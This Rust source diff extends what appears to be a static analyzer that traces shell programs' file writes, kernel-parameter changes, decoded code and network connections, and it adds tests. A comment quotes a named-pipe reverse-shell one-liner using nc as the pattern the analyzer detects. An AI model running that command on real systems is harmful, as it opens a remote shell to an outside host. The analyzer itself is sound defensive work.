@@ -20,6 +20,9 @@ const KEPT_VALUE_BYTES: usize = 4_096;
 /// Most files a program's writes are followed through.
 const FOLLOWED_FILES: usize = 4_096;
 
+/// Most folders above a path that are looked at for a fetched one.
+const FOLLOWED_FOLDERS: usize = 32;
+
 /// A program being lowered.
 pub struct World<'a> {
     budget: &'a Budget,
@@ -36,10 +39,16 @@ pub struct World<'a> {
     unfolded: usize,
     /// Content of the files the program wrote, by path as written.
     files: BTreeMap<String, Value>,
+    /// Path last written of each file name: how a relative path finds the file after a `cd`.
+    file_names: BTreeMap<String, String>,
+    /// Bytes the followed files hold together.
+    held: usize,
     /// Environment variables known from outside: the image's `Env`.
     environment: BTreeMap<String, Value>,
     /// Standard input, output and error that programs started from here inherit.
     pub standard: [Stream; 3],
+    /// Arguments of the text lowered now, `$0` first, for as long as they are told.
+    pub arguments: Vec<Value>,
 }
 
 /// What lowering yields.
@@ -102,8 +111,11 @@ impl<'a> World<'a> {
             fuel: budget.fuel,
             unfolded: budget.unfolded,
             files: BTreeMap::new(),
+            file_names: BTreeMap::new(),
+            held: 0,
             environment: BTreeMap::new(),
             standard: [Stream::Inherited, Stream::Inherited, Stream::Inherited],
+            arguments: Vec::new(),
         }
     }
 
@@ -160,6 +172,39 @@ impl<'a> World<'a> {
         Some(result)
     }
 
+    /// Runs `inner` behind the decodings that `code` went through and one more step.
+    fn inside_decoded<T>(
+        &mut self,
+        code: &Value,
+        step: Step,
+        inner: impl FnOnce(&mut Self) -> T,
+    ) -> Option<T> {
+        let outer = self.steps.len();
+        let decodings = code.from.iter().filter_map(|from| match from {
+            Provenance::Decoded(scheme) => Some(Step::new(scheme.clone())),
+            _ => None,
+        });
+        self.steps.extend(decodings);
+        let result = self.inside(step, inner);
+        self.steps.truncate(outer);
+        result
+    }
+
+    /// Runs `inner` with other standard streams and arguments, as a started program has them.
+    pub fn with_standard<T>(
+        &mut self,
+        standard: [Stream; 3],
+        arguments: Vec<Value>,
+        inner: impl FnOnce(&mut Self) -> T,
+    ) -> T {
+        let outer = std::mem::replace(&mut self.standard, standard);
+        let outer_arguments = std::mem::replace(&mut self.arguments, arguments);
+        let result = inner(self);
+        self.standard = outer;
+        self.arguments = outer_arguments;
+        result
+    }
+
     /// How many steps inside the outermost text the current one is.
     pub fn depth(&self) -> usize {
         self.steps.len()
@@ -192,6 +237,11 @@ impl<'a> World<'a> {
             self.budget.unfolded
         ));
         false
+    }
+
+    /// How many bytes decoding may still yield.
+    pub const fn unfold_left(&self) -> usize {
+        self.unfolded
     }
 
     /// Notes that something could not be followed.
@@ -274,11 +324,13 @@ impl<'a> World<'a> {
             language,
             code: code.clone(),
         });
-        if code.text.is_empty() || code.fetched_from().is_some() && !code.known {
+        if code.text.is_empty() || is_placeholder(code) {
             return Value::unknown(Provenance::Output(language.name().to_owned()));
         }
-        self.inside(step, |world| language::lower(world, language, &code.text))
-            .unwrap_or_else(|| Value::unknown(Provenance::Unknown))
+        self.inside_decoded(code, step, |world| {
+            language::lower(world, language, &code.text)
+        })
+        .unwrap_or_else(|| Value::unknown(Provenance::Unknown))
     }
 
     /// Records a write. If the path is one whose content runs or grants access (a crontab, an
@@ -290,14 +342,21 @@ impl<'a> World<'a> {
             content: content.clone(),
             append,
         });
+        if let Some(name) = path.text.strip_prefix("/proc/sys/") {
+            self.act(Behavior::SetKernelParameter {
+                name: path.map_text(|_| name.replace('/', ".")),
+                value: content.map_text(|text| text.trim_end().to_owned()),
+            });
+            return;
+        }
         let Some(language) = language::of_data_path(&path.text) else {
             return;
         };
-        if content.text.is_empty() {
+        if content.text.is_empty() || is_placeholder(&content) {
             return;
         }
         let step = Step::new(format!("written to {}", path.text));
-        self.inside(step, |world| {
+        self.inside_decoded(&content, step, |world| {
             language::lower(world, language, &content.text)
         });
     }
@@ -306,29 +365,59 @@ impl<'a> World<'a> {
 
     /// What a file holds, if the program wrote it: else content of that path.
     pub fn content_of(&self, path: &Value) -> Value {
-        let stored = path.as_known().and_then(|text| self.files.get(text));
-        stored
-            .cloned()
-            .unwrap_or_else(|| Value::unknown(Provenance::File(path.text.clone())))
+        let stored = self.written(&path.text).cloned();
+        stored.unwrap_or_else(|| Value::unknown(Provenance::File(path.text.clone())))
     }
 
-    /// Whether the program wrote this file, and with what.
+    /// Whether the program wrote this file, and with what. A relative path also finds a file of
+    /// that name in another folder, for the program may have changed there; a path below a
+    /// fetched folder (`git clone`, an unpacked archive) finds the folder's content.
     pub fn written(&self, path: &str) -> Option<&Value> {
-        self.files.get(path)
+        let path = plain_path(path);
+        if path.is_empty() || path.contains("{?}") {
+            return None;
+        }
+        if let Some(content) = self.files.get(path) {
+            return Some(content);
+        }
+        let (folder, name) = path.rsplit_once('/').unwrap_or(("", path));
+        if !path.starts_with('/') {
+            let elsewhere = self.file_names.get(name);
+            if let Some(content) = elsewhere.and_then(|path| self.files.get(path)) {
+                return Some(content);
+            }
+        }
+        let folders = std::iter::successors((!folder.is_empty()).then_some(folder), |folder| {
+            folder.rsplit_once('/').map(|(above, _)| above)
+        });
+        folders
+            .take(FOLLOWED_FOLDERS)
+            .filter_map(|folder| self.files.get(folder))
+            .find(|content| content.fetched_from().is_some())
     }
 
     /// From now on `path` holds `content` (or has it appended): for copies, moves and downloads
     /// that are recorded as other acts.
     pub fn remember(&mut self, path: &Value, content: Value, append: bool) {
-        if path.text.is_empty() || self.files.len() >= FOLLOWED_FILES {
+        let path = plain_path(&path.text);
+        if path.is_empty() || path.contains("{?}") {
             return;
         }
-        match self.files.get_mut(&path.text) {
-            Some(held) if append && held.text.len() < self.budget.program_text => {
-                held.append(&content)
-            }
+        let is_new = !self.files.contains_key(path);
+        let held = self.held.saturating_add(content.text.len());
+        if held > self.budget.unfolded || is_new && self.files.len() >= FOLLOWED_FILES {
+            self.gap("the program writes more files than are followed");
+            return;
+        }
+        self.held = held;
+        let name = path.rsplit('/').next().unwrap_or(path);
+        self.file_names.insert(name.to_owned(), path.to_owned());
+        match self.files.get_mut(path) {
+            Some(held) if append => held.append(&content),
             _ => {
-                self.files.insert(path.text.clone(), content);
+                if let Some(before) = self.files.insert(path.to_owned(), content) {
+                    self.held = self.held.saturating_sub(before.text.len());
+                }
             }
         }
     }
@@ -345,20 +434,85 @@ impl<'a> World<'a> {
     /// `mkfifo p; sh <p | nc host port >p`. Known only at the end, when both sides were seen.
     fn join_named_pipes(&mut self) {
         let files = &self.files;
+        let content = |path: &str| files.get(plain_path(path));
         let connection_behind = |stream: &Stream| match stream {
-            Stream::File(path) => files.get(&path.text).and_then(Value::received_over),
+            Stream::File(path) => content(&path.text).and_then(Value::received_over),
             Stream::Text(value) => value.from.iter().find_map(|from| match from {
-                Provenance::File(path) => files.get(path).and_then(Value::received_over),
+                Provenance::File(path) => content(path).and_then(Value::received_over),
                 _ => None,
             }),
             _ => None,
         };
         for act in &mut self.acts {
-            if let Behavior::Execute { input, .. } = &mut act.behavior
-                && let Some(connection) = connection_behind(input)
-            {
-                *input = Stream::Connection(connection);
+            match &mut act.behavior {
+                Behavior::Execute { input, .. } => {
+                    if let Some(connection) = connection_behind(input) {
+                        *input = Stream::Connection(connection);
+                    }
+                }
+                Behavior::Evaluate { code, .. } if !code.known => {
+                    if let Some(connection) = connection_behind(&Stream::Text(code.clone())) {
+                        *code = code.clone().with_source(Provenance::Received(connection));
+                    }
+                }
+                _ => {}
             }
         }
+    }
+}
+
+/// A path without the `./` in front that changes nothing.
+fn plain_path(mut path: &str) -> &str {
+    while let Some(rest) = path.strip_prefix("./") {
+        path = rest.trim_start_matches('/');
+    }
+    path
+}
+
+/// Whether nothing of the value is known: its text is one placeholder.
+pub fn is_placeholder(value: &Value) -> bool {
+    let text = value.text.trim();
+    let mut depth = 0_u32;
+    let closes_early = text.char_indices().any(|(at, c)| {
+        match c {
+            '{' => depth += 1,
+            '}' => depth = depth.saturating_sub(1),
+            _ => {}
+        }
+        depth == 0 && at + 1 < text.len()
+    });
+    !value.known && text.starts_with('{') && text.ends_with('}') && !closes_early
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_placeholder_is_one_pair_of_braces() {
+        let unknown = |text: &str| Value {
+            text: text.to_owned(),
+            known: false,
+            from: Vec::new(),
+        };
+        assert!(is_placeholder(&unknown("{content of http://{HOST}/x}\n")));
+        assert!(!is_placeholder(&unknown("{A}{B}")));
+        assert!(!is_placeholder(&unknown("{ ls; }; {X}")));
+        assert!(!is_placeholder(&Value::literal("{X}")));
+    }
+
+    #[test]
+    fn files_are_found_again_by_the_ways_they_are_named() {
+        let budget = Budget::default();
+        let mut world = World::new(&budget);
+        world.remember(&"/tmp/a".into(), "one".into(), false);
+        world.remember(&"./b".into(), "two".into(), false);
+        let repository = Value::unknown(Provenance::Fetched("u".to_owned()));
+        world.remember(&"/opt/r".into(), repository, false);
+        let text = |path: &str| world.written(path).map(|value| value.text.as_str());
+        assert_eq!(text("./a"), Some("one"));
+        assert_eq!(text("b"), Some("two"));
+        assert_eq!(text("/other/a"), None);
+        assert_eq!(text("/opt/r/x/run.sh"), Some("{content of u}"));
     }
 }
